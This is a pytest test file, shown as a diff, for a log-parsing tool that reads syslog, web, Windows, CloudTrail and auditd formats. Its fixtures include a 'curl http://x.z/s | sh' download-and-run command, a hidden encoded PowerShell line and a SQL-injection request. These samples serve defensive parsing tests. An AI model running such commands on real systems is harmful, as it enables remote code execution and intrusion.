@@ -1,0 +1,350 @@
+"""Parsers on real-shaped lines: the right fields per format, year inference, detection."""
+
+from __future__ import annotations
+
+import json
+from datetime import datetime, timedelta, timezone
+
+import pytest
+
+from logwarden.app.errors import InputError
+from logwarden.app.parse import FORMATS, detect_format, parse_file_json, parse_lines, parse_stream
+from tests._ingest_helpers import (
+    ACCESS,
+    APACHE_ERROR,
+    AUDITD,
+    CLOUDTRAIL_CONSOLE_LOGIN,
+    CLOUDTRAIL_ROOT_STOPLOGGING,
+    NGINX_ERROR,
+    RFC5424,
+    RSYSLOG_ISO,
+    SSHD,
+    SYSMON_1_EVTX,
+    WIN_4624_XMLTODICT,
+    WIN_4625_WINLOGBEAT,
+    WIN_4688_FLAT,
+    WIN_7045_WINLOGBEAT6,
+    jline,
+    log_lines,
+)
+
+REF = datetime(2024, 6, 1, 12, 0, 0)
+
+
+def parse(texts: list[str], fmt: str, reference_time: datetime | None = REF):
+    return list(parse_lines(log_lines(texts), fmt, reference_time=reference_time))
+
+
+# --- syslog ----------------------------------------------------------------------------------
+
+def test_syslog_openssh_lines_give_host_program_pid_message():
+    events = parse(SSHD[:3], "syslog")
+    assert [e.format for e in events] == ["syslog"] * 3
+    first = events[0]
+    assert (first.host, first.program, first.fields["pid"]) == ("LabSZ", "sshd", 24200)
+    assert first.ts == datetime(2023, 12, 10, 6, 55, 46)  # December is after June 2024 → 2023
+    assert events[2].message.startswith("Failed password for invalid user webmaster from 173.")
+
+
+def test_syslog_program_with_module_and_without_pid():
+    pam, kernel = parse(SSHD[4:6], "syslog")
+    assert (pam.program, pam.fields["pid"], pam.host) == ("sshd(pam_unix)", 19939, "combo")
+    assert kernel.program == "kernel" and "pid" not in kernel.fields
+    assert kernel.message == "Linux version 2.6.5-1.358 (bhcompile@bugs.build.redhat.com)"
+
+
+def test_syslog_line_without_host_keeps_the_tag_as_program():
+    (event,) = parse(["Mar  3 10:00:00 sshd[12]: pam_unix(sshd:auth): authentication failure"],
+                     "syslog")
+    assert (event.host, event.program, event.fields["pid"]) == (None, "sshd", 12)
+    assert event.message == "pam_unix(sshd:auth): authentication failure"
+
+
+def test_rsyslog_file_format_iso_timestamp_is_timezone_aware():
+    (event,) = parse([RSYSLOG_ISO], "syslog")
+    assert event.ts == datetime(2024, 3, 3, 10, 15, 1, 123456, timezone(timedelta(hours=1)))
+    assert (event.host, event.program, event.fields["pid"]) == ("web1", "sshd", 812)
+
+
+def test_year_rolls_over_from_december_to_january_with_mtime_in_january():
+    lines = ["Dec 31 23:59:58 h cron[1]: a", "Jan  1 00:00:03 h cron[1]: b"]
+    events = parse(lines, "syslog", reference_time=datetime(2024, 1, 5))
+    assert [e.ts.year for e in events] == [2023, 2024]
+
+
+def test_year_rolls_over_even_when_the_reference_time_is_before_new_year():
+    lines = ["Dec 31 23:59:58 h cron[1]: a", "Jan  1 00:00:03 h cron[1]: b",
+             "Jan  1 00:00:09 h cron[1]: c"]
+    events = parse(lines, "syslog", reference_time=datetime(2023, 12, 31, 23, 59, 59))
+    assert [e.ts.year for e in events] == [2023, 2024, 2024]
+
+
+def test_feb_29_is_valid_in_a_leap_year():
+    (event,) = parse(["Feb 29 08:00:00 h sshd[3]: ok"], "syslog",
+                     reference_time=datetime(2024, 3, 1))
+    assert event.format == "syslog" and event.ts == datetime(2024, 2, 29, 8, 0, 0)
+
+
+def test_rfc5424_fields():
+    plain, structured = parse(RFC5424, "rfc5424")
+    assert plain.ts == datetime(2003, 10, 11, 22, 14, 15, 3000, timezone.utc)
+    assert (plain.host, plain.program, plain.fields["msgid"]) == ("mymachine.example.com", "su",
+                                                                  "ID47")
+    assert "structured_data" not in plain.fields and "pid" not in plain.fields
+    assert plain.message == "'su root' failed for lonvick on /dev/pts/8"  # BOM removed
+    assert structured.fields["pid"] == 1234 and structured.fields["app_name"] == "evntslog"
+    assert structured.fields["structured_data"].startswith('[exampleSDID@32473 iut="3"')
+    assert structured.message == "An application event log entry..."
+
+
+# --- web -------------------------------------------------------------------------------------
+
+def test_access_common_and_combined():
+    common, combined = parse(ACCESS[:2], "access")
+    assert common.fields == {
+        "src_ip": "64.242.88.10", "status": 401, "bytes": 12846, "method": "GET",
+        "path": "/twiki/bin/edit/Main/Double_bounce_sender?topicparent=Main.ConfigurationVariables",
+        "protocol": "HTTP/1.1", "request": common.message}
+    assert common.ts == datetime(2004, 3, 7, 16, 5, 49, tzinfo=timezone(timedelta(hours=-8)))
+    assert combined.fields["user"] == "frank"
+    assert combined.fields["referrer"] == "http://www.example.com/start.html"
+    assert combined.fields["user_agent"] == "Mozilla/4.08 [en] (Win98; I ;Nav)"
+
+
+def test_access_attack_request_keeps_query_string():
+    (event,) = parse([ACCESS[2]], "access")
+    assert event.fields["path"] == "/index.php?id=1%27%20UNION%20SELECT%201,2,3--"
+    assert event.fields["user_agent"].startswith("sqlmap/1.7.2")
+
+
+def test_access_garbage_request_lines_still_parse():
+    tls, dash = parse(ACCESS[3:5], "access")
+    assert tls.format == "access" and tls.fields["request"] == "\\x16\\x03\\x01"
+    assert "method" not in tls.fields and tls.fields["status"] == 400
+    assert tls.host == "shop.example.com" and tls.fields["src_ip"] == "203.0.113.9"
+    assert dash.format == "access" and dash.fields["request"] == "-" and dash.fields["bytes"] == 0
+
+
+def test_apache_error_22_and_24():
+    notice, client22, client24, ipv6 = parse(APACHE_ERROR, "apache_error")
+    assert notice.fields == {"level": "notice"} and notice.ts == datetime(2005, 12, 4, 4, 47, 44)
+    assert client22.fields["src_ip"] == "81.199.21.119"
+    assert client22.message == "File does not exist: /var/www/html/awstats.pl"
+    assert client24.fields == {"level": "error", "module": "core", "pid": 35708,
+                               "src_ip": "72.15.99.187", "error_code": "AH00128"}
+    assert client24.ts == datetime(2011, 9, 9, 10, 42, 29, 902022)
+    assert ipv6.fields["src_ip"] == "2001:db8::7" and ipv6.fields["error_code"] == "AH01630"
+
+
+def test_nginx_error_log_reads_as_apache_error():
+    (event,) = parse([NGINX_ERROR], "apache_error")
+    assert event.format == "apache_error" and event.program == "nginx"
+    assert event.fields == {"level": "error", "pid": 1234, "src_ip": "45.155.205.233"}
+
+
+# --- JSON ------------------------------------------------------------------------------------
+
+def test_windows_4625_winlogbeat():
+    (event,) = parse([jline(WIN_4625_WINLOGBEAT)], "windows")
+    f = event.fields
+    assert (f["EventID"], f["Channel"], f["Computer"]) == (4625, "Security", "DC01.corp.local")
+    assert (f["TargetUserName"], f["LogonType"], f["src_ip"], f["user"]) == (
+        "administrator", "3", "185.220.101.4", "administrator")
+    assert event.host == "DC01.corp.local"
+    assert event.ts == datetime(2023, 5, 2, 10, 15, 23, 456000, timezone.utc)
+    assert event.message.startswith("EventID 4625 Security: TargetUserName=administrator")
+
+
+def test_sysmon_1_evtx_dump_shape():
+    (event,) = parse([jline(SYSMON_1_EVTX)], "windows")
+    f = event.fields
+    assert f["EventID"] == 1 and f["Provider"] == "Microsoft-Windows-Sysmon"
+    assert f["CommandLine"] == "powershell.exe -nop -w hidden -enc SQBFAFgA"
+    assert f["ParentImage"] == "C:\\Windows\\System32\\cmd.exe" and f["user"] == "CORP\\bob"
+    assert event.ts == datetime(2019, 3, 19, 23, 34, 25, 723936, timezone.utc)
+    assert event.host == "WIN-HOST01"
+
+
+def test_windows_xmltodict_flat_and_winlogbeat6_shapes():
+    xml, flat, beat6 = parse([jline(WIN_4624_XMLTODICT), jline(WIN_4688_FLAT),
+                              jline(WIN_7045_WINLOGBEAT6)], "windows")
+    assert (xml.fields["EventID"], xml.fields["LogonType"], xml.fields["src_ip"]) == (
+        4624, "10", "10.0.0.44")
+    assert xml.ts == datetime(2022, 1, 5, 8, 0, 1, 123456, timezone.utc)
+    assert flat.fields["CommandLine"] == "whoami /all" and flat.host == "WKS7.corp.local"
+    assert flat.fields["user"] == "alice" and "Hostname" not in flat.fields
+    assert beat6.fields["EventID"] == 7045 and beat6.fields["ServiceName"] == "PSEXESVC"
+    assert beat6.fields["Channel"] == "System"
+
+
+def test_cloudtrail_console_login_and_root():
+    login, root = parse([jline(CLOUDTRAIL_CONSOLE_LOGIN), jline(CLOUDTRAIL_ROOT_STOPLOGGING)],
+                        "cloudtrail")
+    assert login.fields["eventName"] == "ConsoleLogin" and login.fields["user"] == "alice"
+    assert login.fields["src_ip"] == "198.51.100.23"
+    assert login.fields["userIdentity_arn"] == "arn:aws:iam::123456789012:user/alice"
+    assert login.fields["responseElements"] == {"ConsoleLogin": "Failure"}
+    assert login.fields["requestParameters"] is None
+    assert login.message == "signin.amazonaws.com ConsoleLogin alice"
+    assert root.fields["user"] == "root" and root.fields["userIdentity_type"] == "Root"
+    assert root.ts == datetime(2023, 7, 19, 21, 15, 2, tzinfo=timezone.utc)
+
+
+def test_cloudtrail_pretty_printed_records_file_points_at_each_record_line():
+    document = json.dumps({"Records": [CLOUDTRAIL_CONSOLE_LOGIN, CLOUDTRAIL_ROOT_STOPLOGGING]},
+                          indent=2)
+    texts = document.split("\n")
+    events = parse_file_json(log_lines(texts))
+    assert [e.fields["eventName"] for e in events] == ["ConsoleLogin", "StopLogging"]
+    for event in events:
+        assert texts[event.line_no - 1].strip() == "{"  # the line that opens the record
+        assert json.loads(event.raw)["eventName"] == event.fields["eventName"]
+    assert events[0].line_no < events[1].line_no
+
+
+def test_parse_stream_expands_a_one_line_cloudtrail_file():
+    text = jline({"Records": [CLOUDTRAIL_CONSOLE_LOGIN, CLOUDTRAIL_ROOT_STOPLOGGING]})
+    decision, events = parse_stream(log_lines([text]))
+    events = list(events)
+    assert decision.name == "cloudtrail" and decision.whole_file
+    assert [e.fields["user"] for e in events] == ["alice", "root"]
+    assert all(e.line_no == 1 for e in events)
+
+
+def test_parse_file_json_refuses_what_is_not_a_json_document():
+    assert parse_file_json(log_lines(["{", '  "a": ', "oops"])) is None
+    assert parse_file_json(log_lines(SSHD[:2])) is None
+
+
+def test_generic_json_flattens_one_level_and_picks_message_and_time():
+    line = jline({"time": "2024-02-01T10:00:00Z", "level": "warn", "msg": "login failed",
+                  "client": {"ip": "10.0.0.8", "geo": {"cc": "DE"}}, "user": "bob"})
+    (event,) = parse([line], "json")
+    assert event.message == "login failed" and event.fields["client.ip"] == "10.0.0.8"
+    assert event.fields["client.geo"] == {"cc": "DE"} and event.fields["user"] == "bob"
+    assert event.ts == datetime(2024, 2, 1, 10, 0, tzinfo=timezone.utc)
+
+
+def test_journald_json_export():
+    line = jline({"__REALTIME_TIMESTAMP": "1700000000123456", "_HOSTNAME": "web1",
+                  "SYSLOG_IDENTIFIER": "sshd", "_PID": "812",
+                  "MESSAGE": "Failed password for root from 203.0.113.50 port 4242 ssh2"})
+    (event,) = parse([line], "json")
+    assert (event.host, event.program, event.fields["pid"]) == ("web1", "sshd", 812)
+    assert event.ts == datetime(2023, 11, 14, 22, 13, 20, 123456, timezone.utc)
+
+
+# --- auditd ----------------------------------------------------------------------------------
+
+def test_auditd_user_auth_merges_inner_msg_pairs():
+    (event,) = parse(AUDITD[:1], "auditd")
+    f = event.fields
+    assert (f["type"], f["audit_id"], f["acct"], f["res"]) == (
+        "USER_AUTH", "1700000000.123:456", "root", "failed")
+    assert (f["src_ip"], f["user"], f["exe"], f["uid"]) == ("203.0.113.50", "root",
+                                                            "/usr/sbin/sshd", 0)
+    assert event.ts == datetime(2023, 11, 14, 22, 13, 20, 123000, timezone.utc)
+
+
+def test_auditd_execve_hex_arguments_decoded_but_syscall_registers_not():
+    syscall, execve = parse(AUDITD[1:3], "auditd")
+    assert syscall.fields["a0"] == "55d3c2a1b2c0" and syscall.fields["key"] == "rootcmd"
+    assert execve.fields["a2"] == "curl http://x.z/s | sh"
+    assert execve.fields["cmdline"] == "bash -c curl http://x.z/s | sh"
+    assert syscall.fields["audit_id"] == execve.fields["audit_id"]
+
+
+def test_auditd_node_prefix_and_enriched_format():
+    (event,) = parse(AUDITD[3:4], "auditd")
+    assert event.host == "web1" and event.fields["src_ip"] == "10.0.0.9"
+    assert event.fields["AUID"] == "alice" and event.fields["res"] == "success"
+
+
+# --- generic ---------------------------------------------------------------------------------
+
+@pytest.mark.parametrize(("text", "expected"), [
+    ("2015-10-18 18:01:47,978 INFO [main] org.apache.hadoop.mapreduce: Created",
+     datetime(2015, 10, 18, 18, 1, 47, 978000)),
+    ("081109 203615 148 INFO dfs.DataNode$PacketResponder: Received block",
+     datetime(2008, 11, 9, 20, 36, 15)),
+    ("17/06/09 20:10:40 INFO executor.CoarseGrainedExecutorBackend: Registered",
+     datetime(2017, 6, 9, 20, 10, 40)),
+    ("1157689324.156   1372 10.105.21.199 TCP_MISS/200 399 GET http://www.google-analytics.com/",
+     datetime(2006, 9, 8, 4, 22, 4, 156000, timezone.utc)),
+    ("[Sun Dec 04 04:47:44 2005] mod_jk child workerEnv in error state 6",
+     datetime(2005, 12, 4, 4, 47, 44)),
+    ("Feb 30 10:00:00 host sshd[1]: impossible date", None),
+    ("no time in this line at all", None),
+])
+def test_generic_timestamp_heuristics(text, expected):
+    (event,) = parse([text], "generic")
+    assert event.format == "generic" and event.message == text
+    assert event.ts == expected
+
+
+# --- dispatch and detection ------------------------------------------------------------------
+
+def test_parse_lines_unknown_format_raises_input_error_naming_the_choices():
+    with pytest.raises(InputError, match="syslog"):
+        parse_lines([], "evtx-binary")
+
+
+def test_lines_the_chosen_parser_cannot_read_become_generic_one_for_one():
+    events = parse([SSHD[0], ACCESS[0], "", "garbage"], "syslog")
+    assert [e.format for e in events] == ["syslog", "generic", "generic", "generic"]
+    assert [e.line_no for e in events] == [1, 2, 3, 4]
+    assert events[1].raw == ACCESS[0] and events[1].ts is not None
+
+
+def test_windows_file_with_a_non_windows_json_line_falls_back_to_json():
+    events = parse([jline(WIN_4625_WINLOGBEAT), jline({"msg": "agent started"})], "windows")
+    assert [e.format for e in events] == ["windows", "json"]
+
+
+@pytest.mark.parametrize(("texts", "expected"), [
+    (SSHD, "syslog"),
+    ([RSYSLOG_ISO] * 3, "syslog"),
+    (RFC5424, "rfc5424"),
+    (ACCESS, "access"),
+    (APACHE_ERROR + [NGINX_ERROR], "apache_error"),
+    (AUDITD, "auditd"),
+    ([jline(o) for o in (WIN_4625_WINLOGBEAT, SYSMON_1_EVTX, WIN_4688_FLAT)], "windows"),
+    ([jline(CLOUDTRAIL_CONSOLE_LOGIN), jline(CLOUDTRAIL_ROOT_STOPLOGGING)], "cloudtrail"),
+    ([jline({"level": "info", "msg": "x"}), jline({"level": "error", "msg": "y"})], "json"),
+])
+def test_detect_format_per_format(texts, expected):
+    decision = detect_format(texts)
+    assert decision.name == expected, decision.reason
+    assert decision.confidence > 0.5 and not decision.whole_file
+    assert decision.reason.startswith(f"{expected}: {len(texts)}/{len(texts)} sample lines")
+
+
+def test_detect_format_garbage_and_empty_are_generic():
+    garbage = detect_format(["hello world", "%%%% ^^^", "12345", "x=1 y=2"])
+    assert garbage.name == "generic" and garbage.confidence == 0.0
+    assert "no known format" in garbage.reason
+    assert detect_format(["", "   "]).name == "generic"
+
+
+def test_detect_format_mixed_file_picks_the_majority_and_names_the_runner_up():
+    decision = detect_format(SSHD[:6] + ACCESS[:2] + ["noise"] * 2)
+    assert decision.name == "syslog" and decision.confidence == pytest.approx(0.6)
+    assert "access 2/10" in decision.reason
+
+
+def test_detect_format_pretty_printed_json_is_a_whole_file_document():
+    texts = json.dumps({"Records": [CLOUDTRAIL_CONSOLE_LOGIN]}, indent=2).split("\n")
+    decision = detect_format(texts, "trail.json")
+    assert (decision.name, decision.whole_file) == ("cloudtrail", True)
+    windows = json.dumps([SYSMON_1_EVTX], indent=4).split("\n")
+    assert detect_format(windows).name == "windows"
+
+
+def test_detect_format_apache_error_brackets_are_not_mistaken_for_json():
+    decision = detect_format(APACHE_ERROR)
+    assert (decision.name, decision.whole_file) == ("apache_error", False)
+
+
+def test_every_format_name_is_a_parser():
+    assert set(FORMATS) == {"syslog", "rfc5424", "access", "apache_error", "windows",
+                            "cloudtrail", "json", "auditd", "generic"}
